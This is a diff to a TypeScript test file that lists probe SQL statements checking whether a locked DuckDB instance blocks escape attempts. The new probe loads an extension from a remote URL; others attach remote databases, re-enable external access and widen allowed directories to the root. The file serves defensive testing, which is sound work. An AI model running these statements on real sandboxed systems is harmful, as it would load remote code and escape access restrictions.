@@ -44,6 +44,10 @@ export const LOCK_PROBES: readonly {
   { tries: 'attach a remote database', sql: "attach 'https://lock.invalid/a.db' as remote" },
   { tries: 'attach a local database', sql: "attach 'leak.db' as local" },
   { tries: 'load an extension', sql: 'load httpfs' },
+  {
+    tries: 'load an extension from another site',
+    sql: "load 'https://lock.invalid/a.duckdb_extension.wasm'"
+  },
   { tries: 'read what an extension would fetch', sql: "select * from read_parquet('in/a.parquet')" },
   { tries: 'switch external access on', sql: 'set enable_external_access = true' },
   { tries: 'widen the folders', sql: "set allowed_directories = ['/']" },
